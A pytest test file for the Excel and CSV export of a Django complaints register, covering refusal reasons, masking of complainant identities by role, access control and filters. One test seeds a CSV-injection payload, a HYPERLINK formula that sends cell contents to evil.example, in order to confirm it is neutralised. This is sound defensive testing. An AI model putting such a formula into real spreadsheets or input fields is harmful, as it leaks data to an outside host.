"""R15, R17: the register exported as Excel and CSV: filtered as on the page, with the decision
and the reason of a refusal, identities masked unless the reader may see them (each unmasked
row logged), and no cell a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from complaints.models import IdentityView, RefusalReason
from complaints.services.decisions import complaint_refuse
from tests.conftest import client_for

from .staff_pages import registered

pytestmark = pytest.mark.django_db

XLSX = reverse("complaints:staff-export-xlsx")
CSV = reverse("complaints:staff-export-csv")


def sheet_rows(response) -> list[list[str]]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [[c.value or "" for c in row] for row in workbook.active.iter_rows()]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def as_dicts(rows) -> list[dict]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_export_carries_the_decision_and_the_refusal_reason(city_supervisor, agency_a):
    """R17: the register records why a complaint was not accepted."""
    complaint = registered(agency_a)
    complaint_refuse(
        complaint=complaint, actor=city_supervisor, reason=RefusalReason.OUT_OF_SCOPE, note="x"
    )
    for url, read in ((XLSX, sheet_rows), (CSV, csv_rows)):
        response = client_for(city_supervisor).get(url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        (row,) = as_dicts(read(response))
        assert row["登记号"] == complaint.number
        assert row["受理决定"] == "不予受理"
        assert row["不予受理理由"] == "不属于受理范围"


def test_the_supervisor_export_shows_identities_and_logs_each_row(city_supervisor, agency_a):
    first, second = registered(agency_a), registered(agency_a)
    rows = as_dicts(csv_rows(client_for(city_supervisor).get(CSV)))
    assert {r["投诉人姓名"] for r in rows} == {"张三"}
    assert {r["联系电话"] for r in rows} == {"13800000000"}
    logged = IdentityView.objects.filter(user=city_supervisor, where="export")
    assert sorted(logged.values_list("complaint_id", flat=True)) == sorted([first.pk, second.pk])


def test_the_administrator_export_is_masked_and_logs_nothing(sysadmin, agency_a):
    """Not even the administrator sees who complained."""
    registered(agency_a)
    for url, read in ((XLSX, sheet_rows), (CSV, csv_rows)):
        (row,) = as_dicts(read(client_for(sysadmin).get(url)))
        assert row["投诉人姓名"] == "张*"
        assert row["联系电话"] == "138****0000"
        assert row["电子信箱"] == "z***@example.com"
    assert not IdentityView.objects.exists()


def test_formulas_in_any_text_cell_are_neutralised(city_supervisor, agency_a):
    """CSV injection: the services refuse formulas, but a row that holds one anyway (an old
    row, a bulk load) is written as text with a leading '."""
    complaint = registered(agency_a)
    type(complaint).objects.filter(pk=complaint.pk).update(
        description='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        place="+1+1",
        officer="@SUM(A1)",
    )
    for url, read in ((XLSX, sheet_rows), (CSV, csv_rows)):
        (row,) = as_dicts(read(client_for(city_supervisor).get(url)))
        assert row["投诉事项"].startswith("'=HYPERLINK(")
        assert row["发生地点"] == "'+1+1"
        assert row["执法人员"] == "'@SUM(A1)"
    workbook = load_workbook(io.BytesIO(b"".join(client_for(city_supervisor).get(XLSX))))
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if c.value)


def test_the_export_follows_the_page_filters_and_the_region(
    city_supervisor, agency_a, county_agency_a, agency_b
):
    mine, county = registered(agency_a), registered(county_agency_a)
    registered(agency_b)
    client = client_for(city_supervisor)
    every = {r["登记号"] for r in as_dicts(csv_rows(client.get(CSV)))}
    assert every == {mine.number, county.number}
    filtered = as_dicts(csv_rows(client.get(CSV, {"agency": county_agency_a.pk})))
    assert [r["登记号"] for r in filtered] == [county.number]


@pytest.mark.parametrize("who", ["inspector_a", "outsider_b"])
def test_agency_staff_cannot_export_the_register(request, who, agency_a):
    registered(agency_a)
    client = client_for(request.getfixturevalue(who))
    assert client.get(XLSX).status_code == 403
    assert client.get(CSV).status_code == 403


@pytest.mark.parametrize("count", [3, 10])
def test_the_export_queries_do_not_grow_with_rows(
    city_supervisor, agency_a, count, django_assert_max_num_queries
):
    for _ in range(count):
        registered(agency_a)
    client = client_for(city_supervisor)
    with django_assert_max_num_queries(12):
        rows = csv_rows(client.get(CSV))
    assert len(rows) == count + 1
